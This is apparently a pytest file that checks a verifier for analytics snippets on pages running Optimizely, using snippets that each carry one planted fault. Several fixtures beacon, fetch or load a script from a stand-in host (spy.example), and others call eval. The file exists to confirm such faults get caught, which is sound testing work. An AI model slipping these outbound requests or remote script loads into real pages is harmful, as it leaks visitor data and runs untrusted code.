"""A judge that cannot say no is worth nothing: snippets with one fault each, and what must be found in them."""

from __future__ import annotations

import shutil
from collections.abc import Collection, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from generator import catalog
from generator.model import Call, Scenario
from generator.resources import example
from generator.verify import (
    Expectation,
    Observation,
    Result,
    Step,
    Testbed,
    TestPage,
    Verdict,
    pages,
    plan,
    prove,
)
from generator.verify import testbed as bed
from generator.verify.judge import judge
from generator.verify.visits import PageClient

SDK = (
    "window.acme = { track: function () { __tagwrightTestbed.record('acme.track', arguments); } };"
)
HERO = Call(call="acme.track", args=("Homepage hero",))
CHECKOUT = Call(call="acme.track", args=("Checkout flow",))

#: the sound way to do it, where a fault is planted around it
GOOD = "acme.track('Homepage hero');"


def names(then: str) -> str:
    """Code that reads the names of all that runs here into `names`, and then does something."""
    return f"""
    (function () {{
      var client = window.optimizely;
      var states = client && client.get ? client.get("state").getCampaignStates({{ isActive: true }}) : {{}};
      var names = Object.keys(states).map(function (id) {{ return states[id].experiment.name; }});
      {then}
    }})();"""


EACH = "names.forEach(function (name) { acme.track(name); });"


@dataclass(frozen=True)
class Page:
    """Where a snippet stands; by default after Optimizely Web, with a visitor in one experiment."""

    client: PageClient = "web"
    visitor: str = "in_one_experiment"
    before: bool = False
    times: int = 1
    calls: Sequence[Call] = (HERO,)


HERE = Page()
ABSENT = Page("absent", calls=())
TWO = Page(visitor="in_two_experiments", calls=(HERO, CHECKOUT))
NOBODY = Page(visitor="in_no_experiment", calls=())

BAD: Sequence[tuple[str, Page, str, Collection[str]]] = [
    # -- the calls
    ("reports nothing", HERE, "", {"missing"}),
    ("reports another value", HERE, "acme.track('Homepage');", {"different"}),
    ("reports a text for a number", HERE, "acme.track(1);", {"different"}),
    ("reports one argument more", HERE, "acme.track('Homepage hero', undefined);", {"different"}),
    ("reports twice", HERE, GOOD * 2, {"doubled"}),
    ("reports something nobody asked for", HERE, f"{GOOD} acme.track();", {"unexpected"}),
    ("reports a visitor who is in nothing", NOBODY, GOOD, {"unexpected"}),
    ("reports in another order", TWO, names("names.reverse();" + EACH), {"order"}),
    ("reports the first alone", TWO, names("acme.track(names[0]);"), {"missing"}),
    ("reports without Optimizely", ABSENT, GOOD, {"unexpected"}),
    ("reports once for each copy of itself", replace(HERE, times=2), names(EACH), {"doubled"}),
    (
        "keeps the queue that Optimizely replaces",
        replace(HERE, before=True),
        """(function () {
          var queue = window.optimizely = window.optimizely || [];
          setTimeout(function () {
            queue.push({ type: "addListener", filter: { type: "lifecycle", name: "activated" },
              handler: function () { acme.track("Homepage hero"); } });
          }, 100);
        })();""",
        {"missing"},
    ),
    (
        "reads Optimizely before it is there, and not again",
        replace(HERE, before=True),
        names(EACH),
        {"missing"},
    ),
    (
        "changes what it reported",
        HERE,
        "var told = { name: 'Homepage' }; acme.track(told); told.name = 'Homepage hero';",
        {"different", "new global"},
    ),
    # -- the page
    ("throws into the page", HERE, f"{GOOD} throw new Error('oh');", {"page error"}),
    ("is no JavaScript", HERE, "acme.track('Homepage hero'", {"missing", "page error"}),
    (
        "throws in a timer",
        HERE,
        f"{GOOD} setTimeout(function () {{ throw new Error('later'); }}, 5000);",
        {"page error"},
    ),
    (
        "throws nothing but a text",
        HERE,
        f"{GOOD} setTimeout(function () {{ throw 'a text'; }}, 50);",
        {"page error"},
    ),
    (
        "leaves a promise refused",
        HERE,
        f"{GOOD} Promise.reject(new Error('no'));",
        {"page error"},
    ),
    (
        "lets an error of Optimizely's pass",
        ABSENT,
        "optimizely.get('state');",
        {"page error"},
    ),
    ("makes a global", HERE, f"{GOOD} window.leak = 1;", {"new global"}),
    ("makes a global by forgetting var", HERE, f"{GOOD} leak = 1;", {"new global"}),
    (
        "makes a hidden global",
        HERE,
        f"{GOOD} Object.defineProperty(window, 'leak', {{ value: 1 }});",
        {"new global"},
    ),
    (
        "makes a global later",
        HERE,
        f"{GOOD} setTimeout(function () {{ window.leak = 1; }}, 9000);",
        {"new global"},
    ),
    ("logs to the console", HERE, f"{GOOD} console.log('sent');", {"console"}),
    (
        "warns on the console later",
        HERE,
        f"{GOOD} setTimeout(function () {{ console.warn('late'); }}, 700);",
        {"console"},
    ),
    (
        "keeps polling for ever",
        HERE,
        f"{GOOD} setInterval(function () {{}}, 500);",
        {"never ends"},
    ),
    (
        "polls for ever, one timer after the other",
        HERE,
        f"{GOOD} (function look() {{ setTimeout(look, 500); }})();",
        {"never ends"},
    ),
    (
        "asks for frames for ever",
        HERE,
        f"{GOOD} (function look() {{ requestAnimationFrame(look); }})();",
        {"never ends"},
    ),
    # -- the network and the policy
    ("asks for an image", HERE, f"{GOOD} new Image().src = 'https://spy.example/p';", {"request"}),
    (
        "fetches",
        HERE,
        f"{GOOD} fetch('https://spy.example/p').catch(function () {{}});",
        {"request"},
    ),
    ("sends a beacon", HERE, f"{GOOD} navigator.sendBeacon('https://spy.example/p');", {"request"}),
    (
        "loads a script",
        HERE,
        f"{GOOD} document.head.appendChild(document.createElement('script')).src = '//spy.example/s.js';",
        {"policy"},
    ),
    ("evaluates a text", HERE, f"{GOOD} eval('1');", {"page error", "policy"}),
    (
        "makes a function of a text",
        HERE,
        f"{GOOD} try {{ new Function('1'); }} catch (error) {{}}",
        {"policy"},
    ),
    ("gives a timer a text", HERE, f"{GOOD} setTimeout('1', 10);", {"policy"}),
    (
        "styles an element in line",
        HERE,
        f"{GOOD} document.documentElement.setAttribute('style', 'color: red');",
        {"policy"},
    ),
    (
        "adds a style sheet",
        HERE,
        f"{GOOD} document.head.appendChild(document.createElement('style')).textContent = 'p {{}}';",
        {"policy"},
    ),
    # -- Optimizely
    (
        "writes into Optimizely's object",
        HERE,
        f"{GOOD} optimizely.reported = true;",
        {"optimizely"},
    ),
    ("replaces a function of Optimizely's", HERE, f"{GOOD} optimizely.get = 1;", {"optimizely"}),
    (
        "writes into Classic's state",
        replace(HERE, client="classic"),
        # Classic makes its state anew 40 ms after it has started, so what is written before is gone.
        f"{GOOD} setTimeout(function () {{ optimizely.data.state.activeExperiments.pop(); }}, 100);",
        {"optimizely"},
    ),
    (
        "writes into Edge's object",
        replace(HERE, client="edge"),
        f"{GOOD} optimizelyEdge.reported = true;",
        {"optimizely"},
    ),
    ("takes Optimizely away", HERE, f"{GOOD} window.optimizely = [];", {"optimizely"}),
]

GOOD_ONES: Sequence[tuple[str, Page, str]] = [
    ("reads and reports", HERE, names(EACH)),
    ("reports two in their order", TWO, names(EACH)),
    ("is silent when nothing runs", NOBODY, names(EACH)),
    ("is silent without Optimizely", ABSENT, names(EACH)),
    (
        "keeps its errors to itself",
        HERE,
        f"try {{ nothing.at.all(); }} catch (error) {{}} {GOOD}",
    ),
    (
        "looks for a while and stops",
        HERE,
        f"""(function () {{
          var looks = 20;
          (function look() {{ looks -= 1; if (looks) {{ setTimeout(look, 500); }} else {{ {GOOD} }} }})();
        }})();""",
    ),
    (
        "stops an interval",
        HERE,
        f"(function () {{ var id = setInterval(function () {{ clearInterval(id); {GOOD} }}, 9); }})();",
    ),
    (
        "marks itself where it may, and reports once",
        replace(HERE, times=2),
        f"if (!window.__tagwright) {{ window.__tagwright = 1; {GOOD} }}",
    ),
    (
        "waits for Optimizely by its own queue",
        replace(HERE, before=True),
        """(window.optimizely = window.optimizely || []).push({ type: "addListener",
          filter: { type: "lifecycle", name: "activated" },
          handler: function () { """
        + GOOD
        + """ } });""",
    ),
]


def seen(testbed: Testbed, page: Page, code: str) -> tuple[Observation, Verdict]:
    """What is seen of a snippet, and what the judge makes of it."""
    client = _client(page)
    ours = [Step("snippet", code)] * page.times
    steps = [*ours, *client] if page.before else [*client, *ours]
    control = testbed.observe(TestPage(tuple(client))) if client else None
    observation = testbed.observe(TestPage((Step("sdk", SDK), *steps)))
    declared = {"__tagwright", "optimizely"}
    return observation, judge(observation, Expectation(page.calls, declared, control=control))


def _client(page: Page) -> list[Step]:
    if page.client == "absent":
        return []
    return [pages.optimizely(page.client, Scenario(name="any", visitor=page.visitor))]


def kinds(verdict: Verdict) -> set[str]:
    """The kinds of all findings."""
    return {finding.kind for finding in verdict.findings}


@pytest.mark.parametrize(
    ("page", "code", "expected"), [row[1:] for row in BAD], ids=[row[0] for row in BAD]
)
def test_a_snippet_is_found_out_that(
    testbed: Testbed, page: Page, code: str, expected: Collection[str]
) -> None:
    _, verdict = seen(testbed, page, code)

    assert kinds(verdict) == set(expected), "\n".join(map(str, verdict.findings))


@pytest.mark.parametrize(
    ("page", "code"), [row[1:] for row in GOOD_ONES], ids=[row[0] for row in GOOD_ONES]
)
def test_nothing_is_found_in_a_snippet_that(testbed: Testbed, page: Page, code: str) -> None:
    _, verdict = seen(testbed, page, code)

    assert [str(finding) for finding in verdict.findings] == []


# -- a page that never comes to rest -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "loop",
    [
        "for (;;) {}",
        "setTimeout(function () { for (;;) {} }, 100);",
        "(function again() { Promise.resolve().then(again); })();",
    ],
    ids=["in line", "in a timer", "of promises"],
)
def test_an_endless_loop_is_told_and_the_next_visit_is_sound(
    testbed: Testbed, monkeypatch: pytest.MonkeyPatch, loop: str
) -> None:
    monkeypatch.setattr(bed, "PATIENCE", 2_000)

    observation = testbed.observe(TestPage((Step("snippet", loop),)))

    assert [error.message for error in observation.errors] == [
        "the page did not come to rest within 2 s: does a loop never end?"
    ]
    monkeypatch.undo()
    assert seen(testbed, HERE, GOOD)[1].ok


# -- a platform whose body has a fault ---------------------------------------------------------------------

SEND = 'window.acmeAnalytics.set("dimension" + settings.slot, variation);'
HELD = 'variation = "holdback";'
FIRST = "var experiment = label("

#: what is replaced in the example's body, with what, and what must be found where
FAULTS: Sequence[tuple[str, str, str, str, str]] = [
    ("throws", FIRST, f"nobody.knows();\n  {FIRST}", "one experiment", "caught"),
    ("sends less", SEND, "", "one experiment", "missing"),
    ("sends twice", SEND, SEND * 2, "one experiment", "doubled"),
    ("does not cut names", "cut(name, 100)", "name", "cut at 100", "different"),
    ("reports a holdback as a variation", HELD, "", "held back", "different"),
    ("ignores a setting", "settings.slot", "1", "customer's choice", "different"),
    ("forgets var", FIRST, f"left = 1;\n  {FIRST}", "two experiments", "caught"),
    ("logs", FIRST, f"console.log(decision);\n  {FIRST}", "one experiment", "console"),
    ("throws later", FIRST, f"setTimeout(none, 9);\n  {FIRST}", "one experiment", "caught"),
]


@pytest.mark.parametrize(
    ("old", "new", "scenario", "kind"), [row[1:] for row in FAULTS], ids=[row[0] for row in FAULTS]
)
def test_a_body_is_found_out_that(
    testbed: Testbed, tmp_path: Path, old: str, new: str, scenario: str, kind: str
) -> None:
    (result,) = faulty(testbed, tmp_path, old, new, scenario)

    assert kind in kinds(result.verdict), "\n".join(map(str, result.verdict.findings))
    assert result.picture.startswith(b"\x89PNG")


def test_an_error_that_the_snippet_keeps_to_itself_is_told_at_its_line(
    testbed: Testbed, tmp_path: Path
) -> None:
    (result,) = faulty(testbed, tmp_path, FIRST, f"nobody.knows();\n  {FIRST}", "one experiment")

    text = (tmp_path / "acme" / "analytics.js").read_text(encoding="utf-8")
    line = text[: text.index("nobody")].count("\n") + 1
    first = result.verdict.findings[0].lines[0]
    assert first.startswith("ReferenceError: nobody is not defined")
    assert first.endswith(f"(acme/analytics.js:{line})")
    assert (result.observation.errors, result.observation.console) == ((), ())


def test_an_error_in_readable_code_is_told_at_its_line(testbed: Testbed, tmp_path: Path) -> None:
    fault = f"setTimeout(function () {{ nobody.knows(); }}, 9);\n  {FIRST}"

    (result,) = faulty(testbed, tmp_path, FIRST, fault, "one experiment", form="readable")

    (finding,) = result.verdict.findings
    assert "nobody is not defined" in finding.lines[0]
    assert "(acme/analytics.js:" in finding.lines[0]


def test_the_example_itself_is_without_a_fault(testbed: Testbed, tmp_path: Path) -> None:
    for scenario in dict.fromkeys(row[3] for row in FAULTS):
        (result,) = faulty(testbed, tmp_path / scenario.replace(" ", "-"), SEND, SEND, scenario)

        assert result.verdict.ok
        assert result.picture == b""


def faulty(
    testbed: Testbed, folder: Path, old: str, new: str, scenario: str, form: str = "minified"
) -> list[Result]:
    """The first visit in such a scenario of the example with something in its body replaced."""
    home = shutil.copytree(example(), folder / "acme")
    body = home / "analytics.js"
    text = body.read_text(encoding="utf-8")
    assert old in text
    body.write_text(text.replace(old, new), encoding="utf-8")
    visits = plan([catalog.read(home)], f"*{scenario}*", targets=["reader"], clients=["auto"])
    first = next(v for v in visits if v.page == "web" and v.form == form and not v.twice)
    return list(prove([first], testbed))
